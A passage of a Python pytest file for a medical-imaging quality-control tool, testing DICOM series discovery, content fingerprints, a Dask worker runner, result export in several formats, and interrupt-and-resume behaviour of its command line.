"""QC at scale on real data: discovery, fingerprints, the Dask runner, export, kill and resume."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pydicom
import pytest
from PIL import Image
from pydicom.data import get_testdata_file

from conftest import run_medq
from medq.data.samples import load_sample
from medq.degrade import simulate
from medq.errors import InvalidParameter
from medq.image import MedImage
from medq.io import save
from medq.qc.archive import CORRUPT, make_archive
from medq.qc.discover import SERIES_MARK, discover, load_item
from medq.qc.fingerprint import fingerprint
from medq.qc.store import Store

MODEL = "mediqa-s"


def _volume(start: int) -> MedImage:
    """An 8-slice MR brain volume (2 mm in-plane) cut from the bundled MNI T1."""
    t1 = load_sample("mni_t1")
    arr = np.ascontiguousarray(t1.array[start:start + 64:8, ::2, ::2])
    return t1.evolve(array=arr, spacing=(8.0, 2.0, 2.0))


def _slice2d(name: str = "ct_small", seed: int = 0) -> MedImage:
    image, _ = simulate(load_sample(name), "blur", severity="mild", seed=seed)
    return image


# --- discovery --------------------------------------------------------------------------------

def test_a_series_folder_is_one_3d_item(tmp_path: Path) -> None:
    volume = _volume(60)
    folder = save(volume, tmp_path / "study" / "t1")
    items = discover(tmp_path)
    assert len(items) == 1
    item = items[0]
    assert item.series and item.path == str(folder.resolve()) and len(item.files) == 8
    loaded = load_item(item.path)  # the stored path alone is enough to load it again
    assert loaded.shape == volume.shape and loaded.is_volume
    assert np.allclose(loaded.array, volume.array, atol=0.05 * float(np.ptp(volume.array)))


def test_a_folder_mixing_series_and_single_files(tmp_path: Path) -> None:
    a, b = save(_volume(50), tmp_path / "a"), save(_volume(90), tmp_path / "b")
    mixed = tmp_path / "mixed"
    mixed.mkdir()
    for src, prefix in ((a, "a"), (b, "b")):
        for f in src.iterdir():
            shutil.copy(f, mixed / f"{prefix}_{f.name}")
    save(_slice2d(seed=1), mixed / "ct_one.dcm")
    save(_slice2d(seed=2), mixed / "ct_two.dcm")
    save(_slice2d("mr_small"), mixed / "mr.png")  # writes mr.png and its mr.json sidecar
    (mixed / "empty.dcm").write_bytes(b"")
    (mixed / "notes.txt").write_text("not an image")
    (mixed / ".hidden.dcm").write_bytes(b"x")
    shutil.copy(get_testdata_file("test-SR.dcm", download=False), mixed / "sr.dcm")
    items = {i.path: i for i in discover(mixed)}
    uid_a = pydicom.dcmread(next(a.iterdir()), stop_before_pixels=True).SeriesInstanceUID
    uid_b = pydicom.dcmread(next(b.iterdir()), stop_before_pixels=True).SeriesInstanceUID
    root = mixed.resolve()
    assert set(items) == {f"{root}{SERIES_MARK}{uid_a}", f"{root}{SERIES_MARK}{uid_b}",
                          str(root / "ct_one.dcm"), str(root / "ct_two.dcm"),
                          str(root / "mr.png"), str(root / "empty.dcm")}
    series_a = items[f"{root}{SERIES_MARK}{uid_a}"]
    assert series_a.series and len(series_a.files) == 8
    assert all(Path(f).name.startswith("a_") for f in series_a.files)
    loaded = load_item(series_a.path)
    direct = load_item(a)
    assert loaded.shape == direct.shape == (8, 117, 99)
    assert np.array_equal(loaded.array, direct.array)


def test_projection_views_sharing_a_series_uid_stay_separate(tmp_path: Path) -> None:
    folder = tmp_path / "views"
    for k in range(2):
        path = save(_slice2d(seed=k), folder / f"view{k}.dcm")
        ds = pydicom.dcmread(path)
        ds.SeriesInstanceUID = "1.2.826.0.1.3680043.8.498.1"
        del ds.ImagePositionPatient
        ds.save_as(path)
    items = discover(folder)
    assert [Path(i.path).name for i in items] == ["view0.dcm", "view1.dcm"]
    assert not any(i.series or i.note for i in items)  # images of their own: no note


def test_localizers_of_one_series_in_two_orientations_are_two_images(tmp_path: Path) -> None:
    import medq

    folder = tmp_path / "scouts"
    for k, orientation in enumerate(([1, 0, 0, 0, 1, 0], [1, 0, 0, 0, 0, -1])):  # AP, lateral
        path = save(_slice2d(seed=k), folder / f"scout{k}.dcm")
        ds = pydicom.dcmread(path)
        ds.SeriesInstanceUID = "1.2.826.0.1.3680043.8.498.2"
        ds.ImageOrientationPatient, ds.ImagePositionPatient = orientation, [0, 0, 0]
        ds.save_as(path)
    items = discover(folder)
    assert [Path(i.path).name for i in items] == ["scout0.dcm", "scout1.dcm"]
    assert not any(i.series or i.note for i in items)
    assert all(not medq.load(i.path).is_volume for i in items)  # each read as the image it is


def test_a_series_split_into_single_images_says_why(tmp_path: Path) -> None:
    """A CT series with one slice of another size, or some slices without a position, was read
    file by file without a word; projection views and localizers (images of their own) stay
    quiet."""
    from medq.qc.discover import split_notes

    source = get_testdata_file("CT_small.dcm", download=False)
    for name, odd in (("sizes", "crop"), ("places", "unplaced")):
        for k in range(3):
            ds = pydicom.dcmread(source)
            ds.SeriesInstanceUID = f"1.2.826.0.1.3680043.8.498.7{len(name)}"
            ds.InstanceNumber = k + 1
            ds.SOPInstanceUID = f"1.2.826.0.1.3680043.8.498.8{len(name)}{k}"
            ds.ImagePositionPatient = [0, 0, 5.0 * k]
            if k == 1 and odd == "crop":
                cut = ds.pixel_array[:100, :120].copy()
                ds.Rows, ds.Columns, ds.PixelData = 100, 120, cut.tobytes()
            if k == 1 and odd == "unplaced":
                del ds.ImagePositionPatient
            (tmp_path / name).mkdir(exist_ok=True)
            ds.save_as(tmp_path / name / f"IM{k}")
    items = discover(tmp_path)
    assert len(items) == 6 and not any(i.series for i in items)
    notes = dict(split_notes(items))
    assert notes[str((tmp_path / "sizes").resolve())].endswith(
        "are read one by one: slices differ in size (128×128, 100×120)")
    assert notes[str((tmp_path / "places").resolve())].endswith(
        "are read one by one: 1 of 3 state no slice position (ImagePositionPatient)")
    res = run_medq("assess", tmp_path / "sizes", "--json", "--no-measures")
    assert res.returncode == 0 and len(json.loads(res.stdout)) == 3
    assert res.stderr.count("medq: note:") == 1 and "slices differ in size" in res.stderr


def test_fingerprint_follows_content_not_names(tmp_path: Path) -> None:
    src = save(_slice2d(), tmp_path / "one.dcm")
    copy = tmp_path / "renamed.dcm"
    shutil.copy(src, copy)
    assert fingerprint([src]) == fingerprint([copy])
    series = save(_volume(60), tmp_path / "vol")
    files = sorted(series.iterdir())
    assert fingerprint(files) == fingerprint(files[::-1])
    data = bytearray(copy.read_bytes())
    data[-1] ^= 0xFF
    copy.write_bytes(bytes(data))
    assert fingerprint([copy]) != fingerprint([src])


# --- the Dask runner ----------------------------------------------------------------------------

@pytest.fixture(scope="module")
def cluster():
    """A LocalCluster of 2 worker processes, one thread each (as `medq qc run` starts)."""
    from distributed import Client

    from medq.qc.runner import start_client, stop_client

    client, n = start_client(2, None)
    assert isinstance(client, Client) and n == 2
    yield client
    stop_client(client, own_cluster=True)


@pytest.fixture(scope="module")
def qc_done(tmp_path_factory: pytest.TempPathFactory, cluster) -> dict:
    """An archive of 20 DICOM files (one 8-slice series) plus 4 corrupt files, QC'd once."""
    from medq.qc.runner import run_qc

    root = tmp_path_factory.mktemp("qc")
    made = make_archive(root / "archive", 20)
    store = Store(root / "qc.sqlite")
    summary = run_qc(root / "archive", store, client=cluster)
    return {"archive": root / "archive", "made": made, "store": store, "summary": summary,
            "root": root}


@pytest.mark.slow
def test_run_stores_exactly_one_row_per_item(qc_done: dict) -> None:
    from medq.assess.predictor import Assessor

    made, store, summary = qc_done["made"], qc_done["store"], qc_done["summary"]
    total = len(made["items"])
    assert summary["total"] == total == 17 and summary["skipped"] == 0
    assert summary["ok"] == total - len(CORRUPT) and summary["errors"] == len(CORRUPT)
    rows = store.items(sort="path")
    assert [r["path"] for r in rows] == made["items"]
    for row in rows:
        if row["path"] in made["corrupt"]:
            assert row["status"] == "error" and row["score"] is None
            assert row["error"].startswith(row["path"] + ": ")
        else:
            assert row["status"] == "ok" and 1.0 <= row["score"] <= 5.0 and row["error"] is None
            assert row["verdict"] in ("good", "usable", "reject") and row["description"]
            # verdict, findings and text come from one description: they never disagree
            assert row["description"].endswith(f"quality of this image is {row['verdict']}.")
    series = store.items(sort="path", modality="MR")
    volume = next(r for r in series if r["path"] == made["series"][0])
    assert volume["dimension"] == "3D" and volume["shape"] == [8, 117, 99]
    direct = Assessor(MODEL, measures=False)  # the score does not depend on measures
    for row in (volume, next(r for r in rows if r["modality"] == "CT")):
        assert row["score"] == pytest.approx(direct.assess(load_item(row["path"])).score, abs=2e-3)
    run = store.runs()[0]
    assert run["finished_at"] and run["workers"] == 2 and run["ok"] == summary["ok"]


@pytest.mark.slow
def test_each_worker_process_loads_the_model_once(qc_done: dict, cluster) -> None:
    from medq.qc.runner import worker_assessor

    stats = cluster.run(lambda: worker_assessor.cache_info()._asdict())
    assert len(stats) == 2
    assert all(s["misses"] == 1 for s in stats.values())  # one model load per process …
    assert sum(s["hits"] + s["misses"] for s in stats.values()) >= 17 // 4  # … many batches
    assert all(s["hits"] + s["misses"] > 0 for s in stats.values())  # both did work


@pytest.mark.slow
def test_export_has_one_row_per_item_in_every_format(qc_done: dict) -> None:
    import pyarrow.parquet as pq

    from medq.qc.export import export_items

    store, made, root = qc_done["store"], qc_done["made"], qc_done["root"]
    tables = {}
    for fmt in ("csv", "tsv", "parquet", "json"):
        dest = root / f"export.{fmt}"
        assert export_items(store, dest) == len(made["items"])
        if fmt in ("csv", "tsv"):
            with open(dest, newline="", encoding="utf-8") as fh:
                tables[fmt] = list(csv.DictReader(fh, delimiter="," if fmt == "csv" else "\t"))
        elif fmt == "parquet":
            tables[fmt] = pq.read_table(dest).to_pylist()
        else:
            tables[fmt] = json.loads(dest.read_text())
    for fmt, rows in tables.items():
        assert [r["path"] for r in rows] == made["items"], fmt
        for key in ("path", "status", "score", "grade", "verdict", "error"):
            assert key in rows[0], (fmt, key)
        by_path = {r["path"]: r for r in rows}
        for path in made["corrupt"]:
            assert by_path[path]["status"] == "error" and by_path[path]["error"], fmt
        ok = [r for r in rows if r["status"] == "ok"]
        assert len(ok) == len(made["items"]) - len(CORRUPT)
        assert all(1.0 <= float(r["score"]) <= 5.0 for r in ok), fmt
    assert "snr" in tables["csv"][0]
    assert isinstance(next(r for r in tables["json"] if r["status"] == "ok")["measures"], dict)
    cli = run_medq("qc", "export", "--db", root / "qc.sqlite", "-o", root / "export.xlsx")
    assert cli.returncode == 2 and "export.xlsx" in cli.stderr and "--format" in cli.stderr
    for fmt, read in (("csv", lambda b: list(csv.DictReader(b.decode().splitlines()))),
                      ("json", json.loads)):  # `-o -`: standard output, no file named "-"
        cli = subprocess.run([sys.executable, "-m", "medq.cli", "qc", "export", "--db",
                              str(root / "qc.sqlite"), "-o", "-", "--format", fmt],
                             capture_output=True, timeout=120, cwd=root)
        assert cli.returncode == 0, cli.stderr
        assert [r["path"] for r in read(cli.stdout)] == made["items"], fmt
        assert cli.stderr.decode().strip().endswith("rows → standard output")
    assert not (root / "-").exists()
    from medq.report.qc_report import build_qc_report

    database = (root / "qc.sqlite").read_bytes()
    scan = next(Path(p) for p in made["items"] if Path(p).is_file())
    image = scan.read_bytes()
    for target in (root / "qc.sqlite", root / "qc.sqlite-wal", scan):  # what medq reads
        with pytest.raises(InvalidParameter, match="write the output elsewhere"):
            export_items(store, target, "csv")
    assert (root / "qc.sqlite").read_bytes() == database and scan.read_bytes() == image
    named = root / "qc-copy.html"  # a database whose name a report could take
    with sqlite3.connect(root / "qc.sqlite") as source, sqlite3.connect(named) as copy:
        source.backup(copy)  # the rows still in the write-ahead log too
    with pytest.raises(InvalidParameter, match="the results database itself"):
        build_qc_report(named, named)
    with Store(named, create=False) as copy:  # still the database, not a page written over it
        assert copy.count() == store.count() == len(made["items"])


@pytest.mark.slow
def test_rerun_skips_unchanged_and_reassesses_what_changed(qc_done: dict, cluster) -> None:
    from medq.qc.runner import run_qc

    store, made, archive = qc_done["store"], qc_done["made"], qc_done["archive"]
    total = len(made["items"])
    again = run_qc(archive, store, client=cluster)
    assert again["skipped"] == total and again["ok"] == again["errors"] == 0
    target = next(p for p in made["items"] if "/ct_small/" in p)
    before = next(r for r in store.items() if r["path"] == target)
    save(_slice2d(seed=99), target)  # same path, new content
    changed = run_qc(archive, store, client=cluster)
    assert changed["skipped"] == total - 1 and changed["ok"] == 1
    after = store.item(before["id"])
    assert after["fingerprint"] != before["fingerprint"] and after["run_id"] == changed["run_id"]
    assert store.count() == total
    retried = run_qc(archive, store, client=cluster, retry_errors=True)
    assert retried["errors"] == len(CORRUPT) and retried["skipped"] == total - len(CORRUPT)
    assert store.count() == total and store.count(status="error") == len(CORRUPT)


def test_items_stored_without_measures_are_measured_when_a_run_asks(tmp_path: Path,
                                                                     cluster) -> None:
    """A database filled with --no-measures skipped every item on a run with measures, which
    then never held any."""
    from medq.qc.runner import run_qc

    archive = tmp_path / "a"
    for k in range(2):
        save(_slice2d(seed=k), archive / f"ct{k}.dcm")
    store = Store(tmp_path / "qc.sqlite")
    try:
        first = run_qc(archive, store, client=cluster, measures=False)
        assert first["ok"] == 2 and store.again(MODEL, unmeasured=True) == {
            str((archive / f"ct{k}.dcm").resolve()) for k in range(2)}
        again = run_qc(archive, store, client=cluster, measures=False)
        assert again["skipped"] == 2  # nothing asked for that is missing
        measured = run_qc(archive, store, client=cluster)
        assert measured["ok"] == 2 and measured["skipped"] == 0
        assert all(row["measures"].get("snr") for row in store.items())
        assert run_qc(archive, store, client=cluster)["skipped"] == 2
    finally:
        store.close()


def test_a_checkpoint_path_runs_on_the_workers_and_names_its_results(tmp_path: Path,
                                                                      cluster) -> None:
    """A run with --model <checkpoint> is stored under the checkpoint's path and content
    (`<path>#sha256=…`); its workers load the checkpoint itself (they were handed the key, and
    failed every item), and export filters by the path the run was given."""
    import shutil

    from medq.assess.weights import WEIGHTS_DIR
    from medq.qc.export import export_rows
    from medq.qc.runner import run_qc

    archive = tmp_path / "a"
    for k in range(2):
        save(_slice2d(seed=k), archive / f"ct{k}.dcm")
    checkpoint = tmp_path / "mine.pt"
    shutil.copyfile(WEIGHTS_DIR / "cnniqa.pt", checkpoint)
    store = Store(tmp_path / "qc.sqlite")
    try:
        summary = run_qc(archive, store, model=str(checkpoint), client=cluster, measures=False)
        assert summary["ok"] == 2 and summary["errors"] == 0, summary
        (held,) = store.values("model")
        assert held.startswith(f"{checkpoint.resolve()}#sha256=")
        assert len(export_rows(store, model=str(checkpoint))) == 2
    finally:
        store.close()


def test_each_volume_of_a_4d_file_is_an_item_of_its_own(tmp_path: Path, cluster) -> None:
    import nibabel as nib

    from medq.qc.runner import run_qc

    clean = _volume(20).array
    noisy = clean + np.random.default_rng(0).normal(
        0.0, 0.15 * float(np.percentile(clean, 99)), clean.shape).astype(np.float32)
    archive = tmp_path / "archive"
    archive.mkdir()
    data = np.stack([v.T for v in (clean, noisy, clean)], axis=-1)
    nib.save(nib.Nifti1Image(data, np.diag([2.0, 2.0, 8.0, 1.0])), archive / "bold.nii.gz")
    assert [i.path for i in discover(archive)] == [str(archive / "bold.nii.gz")]
    items = discover(archive, each_volume=True)
    assert [i.path for i in items] == [f"{archive / 'bold.nii.gz'}@volume={k}" for k in range(3)]
    np.testing.assert_allclose(load_item(items[1].path).array, noisy, rtol=1e-6)
    store = Store(tmp_path / "qc.sqlite")
    whole = run_qc(archive, store, client=cluster, measures=False)  # refused as 4D
    assert (whole["errors"], store.items()[0]["bad_input"]) == (1, True)
    summary = run_qc(archive, store, client=cluster, measures=False, each_volume=True)
    assert (summary["total"], summary["ok"], summary["errors"]) == (3, 3, 0)
    assert summary["replaced"] == 1  # the volumes' rows stand for the file, its refusal goes
    scores = {row["path"]: row["score"] for row in store.items()}
    assert len(scores) == 3 and min(scores, key=scores.get).endswith("@volume=1"), scores
    again = run_qc(archive, store, client=cluster, measures=False, each_volume=True)
    assert again["skipped"] == 3  # unchanged: the file's fingerprint holds for each volume
    plain = run_qc(archive, store, client=cluster, measures=False)  # without the flag
    assert (plain["skipped"], plain["errors"], len(store.items())) == (3, 0, 3)
    store.close()


def test_a_4d_refusal_goes_only_once_its_volumes_are_stored_and_unreviewed(
        tmp_path: Path, cluster) -> None:
    """The refusal went before any volume was assessed, and with its reviews: a run stopped
    after planning left neither. It goes at the end of a run that stored every volume, and a
    reviewed one stays, listed as gone for --prune. A file that stops being 4D leaves its
    volume rows gone."""
    import nibabel as nib

    from medq.qc.runner import RunInterrupted, run_qc

    archive = tmp_path / "archive"
    archive.mkdir()
    vol = _volume(20).array.T
    nib.save(nib.Nifti1Image(np.stack([vol, vol * 1.1], -1), np.diag([2.0, 2.0, 8.0, 1.0])),
             archive / "bold.nii.gz")
    store = Store(tmp_path / "qc.sqlite")
    run_qc(archive, store, client=cluster, measures=False)
    refusal = store.items()[0]["id"]

    def stop(*_: object) -> None:
        raise KeyboardInterrupt

    with pytest.raises(RunInterrupted):
        run_qc(archive, store, client=cluster, measures=False, each_volume=True, on_plan=stop)
    assert [r["id"] for r in store.items()] == [refusal]  # nothing assessed: it stays
    store.add_review(refusal, "ann", "reject", "wrong protocol")
    done = run_qc(archive, store, client=cluster, measures=False, each_volume=True)
    assert done["replaced"] == 0 and done["gone"] == [str(archive / "bold.nii.gz")]
    assert len(store.items()) == 3 and store.reviews(refusal)  # reviewed: --prune decides
    nib.save(nib.Nifti1Image(vol, np.diag([2.0, 2.0, 8.0, 1.0])), archive / "bold.nii.gz")
    now3d = run_qc(archive, store, client=cluster, measures=False, prune=True)  # 4D → 3D
    assert now3d["pruned"] == 2 and [r["path"] for r in store.items()] == [
        str(archive / "bold.nii.gz")] and store.items()[0]["status"] == "ok"
    store.close()


def test_a_series_missing_a_slice_is_stored_and_exported_as_such(tmp_path: Path, cluster) -> None:
    # medq assess said "series: 1 slice missing?", but qc run stored it only in the description
    # text: a QA lead could not filter the night's results for incomplete series
    from medq.qc.export import export_rows
    from medq.qc.runner import run_qc

    t1 = load_sample("mni_t1")
    series = save(t1.with_array(t1.array[20:40, ::2, ::2]), tmp_path / "archive" / "t1")
    files = sorted(series.iterdir(), key=lambda f: pydicom.dcmread(f).ImagePositionPatient[2])
    files[10].unlink()
    save(_slice2d(), tmp_path / "archive" / "ct.dcm")
    store = Store(tmp_path / "qc.sqlite")
    run_qc(tmp_path / "archive", store, client=cluster, measures=False)
    rows = {Path(r["path"]).name: r for r in export_rows(store)}
    assert (rows["t1"]["missing_slices"], rows["t1"]["slice_gaps"]) == (1, "1 slice missing?")
    assert (rows["ct.dcm"]["missing_slices"], rows["ct.dcm"]["slice_gaps"]) == (None, None)
    (kept,) = [r for r in export_rows(store, flat=False) if r["path"].endswith("t1")]
    assert kept["slice_gaps"]["missing_slices"] == 1 and kept["slice_gaps"]["spacing_mm"] > 0
    store.close()


def test_prune_empties_a_folder_that_no_longer_holds_any_image(tmp_path: Path, cluster) -> None:
    # a site folder emptied by a retention purge failed every night ("holds no image") and its
    # rows could never be pruned
    from medq.errors import InputError
    from medq.qc.runner import run_qc

    archive = tmp_path / "site"
    scan = Path(save(_slice2d(), archive / "ct.dcm"))
    store = Store(tmp_path / "qc.sqlite")
    assert run_qc(archive, store, client=cluster, measures=False)["ok"] == 1
    scan.unlink()
    (archive / "README.txt").write_text("moved to cold storage\n")
    with pytest.raises(InputError, match="holds no image"):
        run_qc(archive, store, client=cluster, measures=False)
    assert len(store.items()) == 1  # kept until --prune
    pruned = run_qc(archive, store, client=cluster, measures=False, prune=True)
    assert (pruned["total"], pruned["pruned"], store.items()) == (0, 1, [])
    with pytest.raises(InputError, match="holds no image"):  # nothing stored is left
        run_qc(archive, store, client=cluster, measures=False, prune=True)
    store.close()


# --- the command line ---------------------------------------------------------------------------

def test_qc_run_rejects_bad_input_before_starting_workers(tmp_path: Path) -> None:
    archive = tmp_path / "archive"
    save(_slice2d(), archive / "ct.dcm")
    db = tmp_path / "qc.sqlite"
    unknown = run_medq("qc", "run", str(archive), "--db", str(db), "--model", "no-such-model")
    assert unknown.returncode == 2 and "no-such-model" in unknown.stderr and not db.exists()
    junk = tmp_path / "junk.pt"
    junk.write_text("not a checkpoint\n")
    broken = run_medq("qc", "run", str(archive), "--db", str(db), "--model", str(junk))
    assert broken.returncode == 2 and not db.exists()
    assert f"{junk}: not a PyTorch checkpoint file" in broken.stderr
    many = run_medq("qc", "run", str(archive), "--db", str(db), "--workers", "100000")
    assert many.returncode == 2 and "--workers 100000: give 1 to" in many.stderr  # out of memory
    missing = run_medq("qc", "run", str(tmp_path / "nowhere"), "--db", str(db))
    assert missing.returncode == 2 and "nowhere: no such file or directory" in missing.stderr
    assert not db.exists()  # refused: no empty database that `qc export` would then accept
    nodir = run_medq("qc", "run", str(archive), "--db", str(tmp_path / "no" / "qc.sqlite"))
    assert nodir.returncode == 2 and "does not exist" in nodir.stderr
    (tmp_path / "empty").mkdir()
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "readme.txt").write_text("no image here\n")
    for folder in (tmp_path / "empty", tmp_path / "notes"):  # nothing to assess: as medq assess
        res = run_medq("qc", "run", str(folder), "--db", str(db))
        assert res.returncode == 2 and res.stderr.strip() == (
            f"medq: error: {folder}: folder holds no image medq reads (DICOM, NIfTI, PNG, …)")
        assert not db.exists()
    Store(db).close()  # a database that was there before a refused run stays
    res = run_medq("qc", "run", str(tmp_path / "empty"), "--db", str(db))
    assert res.returncode == 2 and db.exists() and Store(db).runs() == []


def _bare_mr_plane(folder: Path) -> Path:
    """A sagittal plane of the bundled MNI T1 saved as a bare .npy (no sidecar): a file that
    states no modality and of which the prompt classifier is not sure, so medq reads it as OT."""
    t1 = load_sample("mni_t1").array
    folder.mkdir(parents=True, exist_ok=True)
    np.save(folder / "sagittal.npy", np.ascontiguousarray(t1[:, :, t1.shape[2] // 2]))
    return folder / "sagittal.npy"


def test_qc_run_modality_reads_bare_files_as_named_and_reruns_never_mix(tmp_path: Path,
                                                                       cluster) -> None:
    """`qc run --modality MR` assesses a bare MR plane as MR (as `medq assess --modality` does),
    records the option with the run and the item, and a run with another or no `--modality`
    assesses the unchanged item again instead of skipping a result read otherwise."""
    from medq.assess.assessment import finding_types_for

    archive, db = tmp_path / "archive", tmp_path / "qc.sqlite"
    _bare_mr_plane(archive)

    def qc(*args: str) -> tuple[dict, dict, dict]:
        res = run_medq("qc", "run", archive, "--db", db, "--scheduler",
                       cluster.scheduler.address, "--no-measures", "--json", *args)
        assert res.returncode == 0, res.stderr
        with Store(db) as store:
            (item,), run = store.items(), store.runs()[0]
        return json.loads(res.stdout), item, run

    summary, item, run = qc()
    assert summary["ok"] == 1 and item["modality"] == "OT"  # nothing says what it is
    assert item["named_modality"] is None and run["named_modality"] is None
    summary, item, run = qc("--modality", "mr")
    assert (summary["ok"], summary["skipped"]) == (1, 0)  # unchanged, but read otherwise
    assert item["modality"] == "MR" and item["status"] == "ok"
    assert item["named_modality"] == "MR" and run["named_modality"] == "MR"
    assert {f["type"] for f in item["findings"]} <= set(finding_types_for("MR"))
    assert qc("--modality", "MR")[0]["skipped"] == 1  # the same reading: skipped
    exported = tmp_path / "qc.csv"
    assert run_medq("qc", "export", "--db", db, "-o", exported).returncode == 0
    with exported.open(newline="") as f:
        (row,) = csv.DictReader(f)
    assert (row["modality"], row["named_modality"]) == ("MR", "MR")
    summary, item, run = qc()
    assert summary["skipped"] == 0 and item["modality"] == "OT"
    assert item["named_modality"] is None and run["named_modality"] is None


def test_qc_export_says_where_the_modality_came_from_and_how_much_is_not_finite(
        tmp_path: Path, cluster) -> None:
    """A curator filters on what the assessment knows: where the graded modality came from (a
    photograph of a person is graded as a fundus photograph, by its values alone), the share
    of NaN pixels (20 NaN rows of a CT were described as streaks, and nothing in the export
    said the pixels were missing), the doubtful types behind a recall without findings and the
    byte copies of another file."""
    from skimage import data

    archive, db = tmp_path / "archive", tmp_path / "qc.sqlite"
    archive.mkdir()
    shutil.copy(get_testdata_file("CT_small.dcm"), archive / "ct.dcm")
    shutil.copy(archive / "ct.dcm", archive / "ct_copy.dcm")  # a byte copy: its duplicate
    ct = load_sample("ct_small").array.astype(np.float32)
    ct[:20] = np.nan
    np.save(archive / "ct_nans.npy", ct)
    Image.fromarray(data.astronaut()).save(archive / "person.png")
    res = run_medq("qc", "run", archive, "--db", db, "--scheduler", cluster.scheduler.address,
                   "--no-measures")
    assert res.returncode == 0, res.stderr
    exported = tmp_path / "qc.csv"
    assert run_medq("qc", "export", "--db", db, "-o", exported).returncode == 0
    with exported.open(newline="") as f:
        rows = {Path(r["path"]).name: r for r in csv.DictReader(f)}
    assert {"suspected", "nonfinite_fraction", "modality_source"} <= set(rows["ct.dcm"])
    assert rows["ct.dcm"]["modality_source"] == "tags"
    assert rows["ct_nans.npy"]["modality_source"] == "values"
    assert float(rows["ct_nans.npy"]["nonfinite_fraction"]) == pytest.approx(20 / 128)
    assert rows["ct.dcm"]["nonfinite_fraction"] == ""
    assert rows["ct_copy.dcm"]["duplicate_of"] == rows["ct.dcm"]["path"]
    assert rows["ct.dcm"]["duplicate_of"] == rows["ct_nans.npy"]["duplicate_of"] == ""
    assert rows["person.png"]["modality"] == "OP"
    assert rows["person.png"]["modality_source"] == "values"  # colour: read as a photograph
    with Store(db) as store:
        stored = {Path(i["path"]).name: i for i in store.items()}
    assert all(isinstance(i["suspected"], list) for i in stored.values())


def test_qc_run_refuses_a_modality_medq_does_not_grade(tmp_path: Path) -> None:
    """An unknown `--modality` is a usage error (exit code 2, one line), before any database
    or worker, as for `medq assess`."""
    archive, db = tmp_path / "archive", tmp_path / "qc.sqlite"
    _bare_mr_plane(archive)
    res = run_medq("qc", "run", archive, "--db", db, "--modality", "US")
    assert res.returncode == 2 and res.stdout == "" and not db.exists()
    assert res.stderr.strip() == (
        "medq: error: Invalid value for '--modality': 'US' is not a modality medq grades; use "
        "one of CT, MR, PT, CR, DX, OP (see medq qc run --help)"), res.stderr
    from medq.qc.runner import run_qc

    with Store(db) as store:  # the Python API refuses it as a typed error, before any run
        with pytest.raises(InvalidParameter, match="'US' is not a modality medq grades"):
            run_qc(archive, store, modality="US")
        assert store.runs() == [] and store.count() == 0


def test_ctrl_c_records_the_counts_so_far_and_a_rerun_continues(tmp_path: Path, cluster) -> None:
    from medq.qc.runner import RunInterrupted, run_qc

    archive = tmp_path / "archive"
    for k in range(6):
        save(_slice2d(seed=k), archive / f"ct{k}.dcm")
    seen: list[str] = []

    def ctrl_c_after_two(result: dict) -> None:
        seen.append(result["path"])
        if len(seen) == 2:
            raise KeyboardInterrupt

    store = Store(tmp_path / "qc.sqlite")
    with pytest.raises(RunInterrupted) as stopped:
        run_qc(archive, store, client=cluster, measures=False, batch=1, on_result=ctrl_c_after_two)
    assert (stopped.value.done, stopped.value.todo) == (2, 6)
    assert stopped.value.counts == {"total": 6, "ok": 2, "errors": 0, "skipped": 0}
    assert str(stopped.value) == ("interrupted after 2 of 6 items; run the same command again "
                                  "to continue")
    [run] = store.runs()
    assert run["finished_at"] is None  # interrupted, yet its counts are the true ones so far
    assert (run["total"], run["ok"], run["errors"], run["skipped"]) == (6, 2, 0, 0)
    assert sorted(r["path"] for r in store.items()) == sorted(seen)
    again = run_qc(archive, store, client=cluster, measures=False)
    assert (again["skipped"], again["ok"]) == (2, 4) and store.count() == 6
    assert store.runs()[0]["finished_at"] is not None
    store.close()


def test_a_second_ctrl_c_while_the_first_is_recorded_loses_nothing(tmp_path: Path, cluster,
                                                                    monkeypatch) -> None:
    """`timeout -s INT` sends SIGINT twice (to medq, then to its group): a second one landing
    while the first's counts were recorded escaped as a bare KeyboardInterrupt, and the run
    exited 130 with neither its interrupted line nor its counts (3 runs in 4 with `timeout`)."""
    from medq.qc.runner import RunInterrupted, run_qc

    archive = tmp_path / "archive"
    for k in range(3):
        save(_slice2d(seed=k), archive / f"ct{k}.dcm")
    finish = Store.finish_run

    def second_ctrl_c(self, run_id, summary, finished=True):  # the second signal arrives here
        if not finished:
            os.kill(os.getpid(), signal.SIGINT)
        return finish(self, run_id, summary, finished)

    def ctrl_c(result: dict) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(Store, "finish_run", second_ctrl_c)
    with Store(tmp_path / "qc.sqlite") as store:
        with pytest.raises(RunInterrupted):
            run_qc(archive, store, client=cluster, measures=False, batch=1, on_result=ctrl_c)
        [run] = store.runs()
        assert run["ok"] == 1 and run["stopped_at"] is not None and run["finished_at"] is None


def test_a_stop_long_after_the_first_still_stops_its_recording(monkeypatch) -> None:
    """The repeat of a stop is ignored while it is recorded, but a stop seconds later is the
    user insisting (a record stuck on a busy database): it stops as Ctrl-C does, where ignoring
    every signal left only SIGKILL. (The clock is moved on, not waited for.)"""
    from medq.qc import signals

    before = signal.getsignal(signal.SIGINT)
    real = time.monotonic
    stopped = False
    try:
        with signals.repeat_ignored(window_s=60.0):
            os.kill(os.getpid(), signal.SIGINT)  # the same stop again: ignored
            time.sleep(0.01)
            monkeypatch.setattr(signals, "monotonic", lambda: real() + 120.0)
            os.kill(os.getpid(), signal.SIGTERM)
            time.sleep(0.01)
    except KeyboardInterrupt:
        stopped = True
    assert stopped and signal.getsignal(signal.SIGINT) is before


def test_export_refuses_a_model_the_database_does_not_hold(tmp_path: Path) -> None:
    from medq.qc.export import export_items

    db, dest = tmp_path / "qc.sqlite", tmp_path / "x.csv"
    with Store(db) as store:
        assert export_items(store, dest, model="other") == 0  # an empty database: header only
        store.record({"path": "/a.dcm", "model": MODEL, "fingerprint": "f", "status": "error",
                      "error": "/a.dcm: unreadable"})
        dest.unlink()
        with pytest.raises(InvalidParameter, match="no results for model 'nosuchmodel'; the "
                                                   f"database holds: {MODEL}$"):
            export_items(store, dest, model="nosuchmodel")
        assert not dest.exists() and export_items(store, dest, model=MODEL) == 1
    res = run_medq("qc", "export", "--db", str(db), "-o", str(tmp_path / "y.csv"), "-m", "nosuch")
    assert res.returncode == 2 and not (tmp_path / "y.csv").exists()
    assert res.stderr.startswith("medq: error: sqlite:///") and res.stderr.strip().endswith(
